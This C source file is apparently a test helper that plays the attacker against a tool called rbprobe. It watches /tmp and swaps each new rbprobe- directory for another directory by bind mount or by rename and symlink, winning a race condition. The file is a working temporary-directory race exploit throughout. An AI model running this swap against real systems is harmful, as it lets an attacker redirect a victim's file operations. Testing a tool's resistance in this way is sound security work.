/*
 * An attacker's program: puts a directory of somebody else's in the place of each one that rbprobe makes in /tmp, the
 * moment it is made. It runs in a mount namespace of its own user's, where it may mount what it likes.
 *
 *     swap_directory DIRECTORY
 *
 * Says "ready", and at the end of its input how many it has swapped, by mounting (even ones) and by renaming and a link
 * (odd ones).
 */

#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mount.h>
#include <unistd.h>

static bool swap(const char *directory, const char *name, unsigned how)
{
	char path[PATH_MAX], aside[PATH_MAX];

	snprintf(path, sizeof(path), "/tmp/%s", name);
	snprintf(aside, sizeof(aside), "/tmp/aside-%s", name);
	if (how % 2 == 0)
		return mount(directory, path, NULL, MS_BIND, NULL) == 0;
	return rename(path, aside) == 0 && symlink(directory, path) == 0;
}

int main(int argc, char **argv)
{
	struct pollfd ready[2] = {{.fd = 0, .events = POLLIN}, {.fd = inotify_init1(IN_NONBLOCK), .events = POLLIN}};
	_Alignas(struct inotify_event) char events[4096];
	unsigned seen = 0, swapped = 0;

	if (argc != 2 || inotify_add_watch(ready[1].fd, "/tmp", IN_CREATE) < 0)
		return 2;
	puts("ready");
	fflush(stdout);
	for (;;) {
		ssize_t size = read(ready[1].fd, events, sizeof(events));

		for (char *at = events; size > 0 && at < events + size;) {
			const struct inotify_event *event = (const struct inotify_event *)at;

			if ((event->mask & IN_ISDIR) && strncmp(event->name, "rbprobe-", 8) == 0)
				swapped += swap(argv[1], event->name, seen++);
			at += sizeof(*event) + event->len;
		}
		/* It never sleeps: who comes by a moment later is too late. */
		if (poll(ready, 1, 0) > 0)
			break;
	}
	printf("swapped %u of %u\n", swapped, seen);
	return 0;
}
